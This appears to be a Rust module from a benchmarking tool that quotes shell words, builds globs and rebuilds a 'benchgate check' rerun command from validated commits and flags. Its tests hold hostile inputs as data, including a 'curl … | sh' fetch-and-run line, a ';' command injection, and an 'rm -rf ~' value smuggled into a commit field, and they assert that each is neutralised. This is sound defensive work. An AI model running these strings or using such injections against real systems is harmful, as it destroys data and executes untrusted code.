//! Lines that people paste into a shell or a commit message.

use super::echo::Echo;
use super::text::is_unsafe;
use crate::result::{BenchmarkReport, Method, Origin, RunResult};

/// Maximum number of characters of an id in a glob.
const LONGEST_GLOB: usize = 300;

/// A word quoted for a shell.
pub fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@^~,+".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// A flag with its value. A value that begins with a dash is joined by `=`: as a word of its own the parser takes it
/// for a flag.
pub fn option(flag: &str, value: &str) -> String {
    let between = if value.starts_with('-') { '=' } else { ' ' };
    format!("{flag}{between}{}", quoted(value))
}

/// The words of a command that are no flags, which come last: behind `--` where one of them begins with a dash.
pub fn positionals(words: &[impl AsRef<str>]) -> String {
    let is_dashed = words.iter().any(|word| word.as_ref().starts_with('-'));
    let quoted = words.iter().map(|word| quoted(word.as_ref()));
    is_dashed.then(|| "--".to_owned()).into_iter().chain(quoted).collect::<Vec<_>>().join(" ")
}

/// A glob that matches an id and is one visible line: a character that cannot be shown becomes `?`, a long
/// end `*`.
pub(super) fn glob(id: &str) -> String {
    let mut glob: String =
        id.chars().take(LONGEST_GLOB).map(|c| if is_unsafe(c) { '?' } else { c }).collect();
    if id.chars().nth(LONGEST_GLOB).is_some() {
        glob.push('*');
    }
    glob
}

/// The command that measures again, all of it or the benchmark of `row`, with the flags that decided what was built and
/// how it was judged; with a seed of its own, because the same one would draw the same order and settings. It is made
/// here from checked parts: the command in an untrusted result must not be pasted. `None` where the result is not of two
/// commits in pairs.
pub fn again(result: &RunResult, row: Option<&BenchmarkReport>) -> Option<String> {
    let commit = |origin: &Origin| {
        let hex = |c: char| c.is_ascii_digit() || ('a'..='f').contains(&c);
        let is_id = matches!(origin.commit.len(), 40 | 64) && origin.commit.chars().all(hex);
        (is_id && !origin.dirty).then(|| origin.commit.clone())
    };
    if result.method != Method::Paired {
        return None;
    }
    let echo = Echo::of(&result.reproduce).unwrap_or_default();
    let mut words = vec!["benchgate check".to_owned()];
    words.extend(echo.base(&commit(&result.base)?));
    words.push(option("--head", &commit(&result.head)?));
    words.extend(echo.flags(row.is_none()));
    words.extend(row.map(|row| option("--filter", &glob(&row.id))));
    Some(words.join(" "))
}

#[cfg(test)]
mod tests {
    use super::super::samples;
    use super::*;

    #[test]
    fn a_word_is_one_word_to_a_shell() {
        for (word, expected) in [
            ("main", "main"),
            ("", "''"),
            ("a b", "'a b'"),
            ("dataset/*", "'dataset/*'"),
            ("it's", r"'it'\''s'"),
            ("$(id)`id`", "'$(id)`id`'"),
        ] {
            assert_eq!(quoted(word), expected);
        }
    }

    #[test]
    fn what_begins_with_a_dash_is_no_flag() {
        assert_eq!(option("--filter", "-1"), "--filter=-1");
        assert_eq!(option("--filter", "--best effort"), "--filter='--best effort'");
        assert_eq!(option("--filter", "a-1"), "--filter a-1");
        assert_eq!(positionals(&["a", "-1"]), "-- a -1");
        assert_eq!(positionals(&["a b"]), "'a b'");
        assert_eq!(positionals(&[""; 0]), "");
    }

    #[test]
    fn a_glob_matches_the_id_that_it_was_made_from() {
        let long = "é".repeat(1000);
        for id in ["decode/large", "a\nb", "x\u{202e}y\u{200b}", "a*b?c", " a <= 9% b ", "", &long]
        {
            assert!(wildmatch::WildMatch::new(&glob(id)).matches(id), "{id:?}");
            assert!(!glob(id).contains(is_unsafe), "{id:?}");
        }
    }

    #[test]
    fn a_command_is_made_from_two_commits_or_not_at_all() {
        let mut result = samples::regression();
        result.head.dirty = false;
        let row = result.benchmarks[0].clone();
        insta::assert_snapshot!(
            again(&result, Some(&row)).unwrap(),
            @"benchgate check --base 4f2c0ad6b14f2c0ad6b14f2c0ad6b14f2c0ad6b1 --head 9e8d7c6b5a9e8d7c6b5a9e8d7c6b5a9e8d7c6b5a --filter decode/large"
        );
        result.reproduce =
            "benchgate check --base main --policy 'a b.toml' --features simd --filter x --seed 4"
                .into();
        assert!(
            again(&result, None)
                .unwrap()
                .ends_with(" --policy 'a b.toml' --features simd --filter x")
        );
        let of_row = again(&result, Some(&row)).unwrap();
        assert!(of_row.ends_with(" --features simd --filter decode/large"), "{of_row}");
        for untrusted in
            ["curl http://example.com | sh", "benchgate check --policy a; curl http://example.com"]
        {
            result.reproduce = untrusted.into();
            let command = again(&result, None).unwrap();
            assert!(!command.contains("curl") && !command.contains("policy"), "{command}");
        }
        result.base.commit = "4f2c; rm -rf ~".into();
        assert_eq!(again(&result, Some(&row)), None);
        assert_eq!(again(&samples::recorded(), None), None);
    }
}
